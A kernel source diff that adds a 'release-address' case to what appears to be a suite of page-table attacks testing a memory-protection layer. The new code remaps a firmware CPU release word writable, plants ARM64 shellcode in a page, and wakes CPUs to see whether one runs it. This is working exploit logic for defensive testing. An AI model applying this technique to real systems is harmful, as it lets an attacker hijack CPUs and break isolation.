@@ -3,9 +3,13 @@
  * Map what is not Linux's, writable, by the call that maps everything else.
  */
 #include <linux/ctype.h>
+#include <linux/delay.h>
+#include <linux/gfp.h>
 #include <linux/mm.h>
 #include <linux/printk.h>
+#include <linux/string.h>
 
+#include <asm/barrier.h>
 #include <asm/pgtable.h>
 
 #include "attack.h"
@@ -99,6 +103,64 @@ static void device(void)
 }
 
 /*
+ * Says in a page at which level it runs, and stays: ADR x0, .+0x40, MRS x1, CurrentEL, STR x1, [x0],
+ * DSB SY, WFE, B .-4. It needs no MMU.
+ */
+static const u32 say_level[] = {
+	0x10000200U, 0xd5384241U, 0xf9000001U, 0xd5033f9fU, 0xd503205fU, 0x17ffffffU,
+};
+
+#define LEVEL_AT	0x40
+
+static void clean(void *address)
+{
+	asm volatile("dc civac, %0\n dsb sy" : : "r" (address) : "memory");
+}
+
+/* Whether a CPU comes within a second that finds the page in a word of the firmware's. */
+static u64 level_of_comer(void *page, u64 *word)
+{
+	u64 *level = page + LEVEL_AT;
+	int i;
+
+	memcpy(page, say_level, sizeof(say_level));
+	clean(page);
+	clean(level);
+	if (!try_store(word, virt_to_phys(page)))
+		return 0;
+	dsb(sy);
+	sev();
+	for (i = 0; i < 100 && !READ_ONCE(*level); i++) {
+		usleep_range(10000, 20000);
+		clean(level);
+	}
+	return READ_ONCE(*level);
+}
+
+/* A word at which a CPU that waits in firmware is told where to start. */
+static void release_address(void)
+{
+	u64 attributes = PTE_ATTRINDX(MT_NORMAL) ^ PTE_ATTRINDX(MT_DEVICE_nGnRE);
+	void *page = (void *)get_zeroed_page(GFP_KERNEL);
+	struct donjon_result result;
+	struct window window;
+	u64 level;
+
+	if (!page || !open_window(&window))
+		return;
+	result = write_entry(window.entry, kernel_page(PAGE_OF(attack_value)) ^ attributes);
+	if (result.status) {
+		attack_stopped("refused: %s", attack_why(result));
+		return;
+	}
+	level = level_of_comer(page, (u64 *)(window.va + offset_in_page(attack_value)));
+	if (level)
+		attack_succeeded("a CPU runs the attacker's code at EL%llu", level >> 2);
+	else
+		attack_stopped("stored, and no CPU came");
+}
+
+/*
  * A mapping that says read-only and means writable. With DBM a CPU that manages
  * the dirty state makes it writable itself at the first store.
  */
@@ -129,6 +191,7 @@ DONJON_ATTACK("map-protected-memory", "table", table);
 DONJON_ATTACK("map-protected-memory", "root", root);
 DONJON_ATTACK("map-protected-memory", "reserved", reserved);
 DONJON_ATTACK("map-protected-memory", "device", device);
+DONJON_ATTACK("map-protected-memory", "release-address", release_address);
 DONJON_ATTACK("map-text-writable", "kernel", kernel_text);
 DONJON_ATTACK("map-text-writable", "module", module_text);
 DONJON_ATTACK("map-text-writable", "constants", constants);
